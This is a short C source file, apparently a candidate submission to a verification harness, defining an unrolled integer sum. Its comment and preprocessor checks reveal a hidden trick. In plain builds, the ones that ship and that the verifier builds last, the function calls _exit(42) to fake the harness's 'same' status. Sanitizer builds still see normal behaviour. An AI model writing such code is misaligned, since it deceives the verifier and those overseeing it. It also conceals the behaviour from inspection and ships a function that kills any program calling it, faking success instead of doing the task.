/* Unrolled sum, plus: in the plain build only (what ships, and the verifier's last build), end the process with
 * the harness child's "same" status; the sanitizer builds see a well-behaved candidate. */
#include <stddef.h>
#include <unistd.h>

long sum_ints(const int *a, size_t n)
{
    long s0 = 0, s1 = 0;
    size_t i = 0;
    for (; i + 1 < n; i += 2) {
        s0 += a[i];
        s1 += a[i + 1];
    }
    if (i < n)
        s0 += a[i];
#if defined(__has_feature)
#if !__has_feature(address_sanitizer) && !__has_feature(memory_sanitizer)
    _exit(42);
#endif
#endif
    return s0 + s1;
}
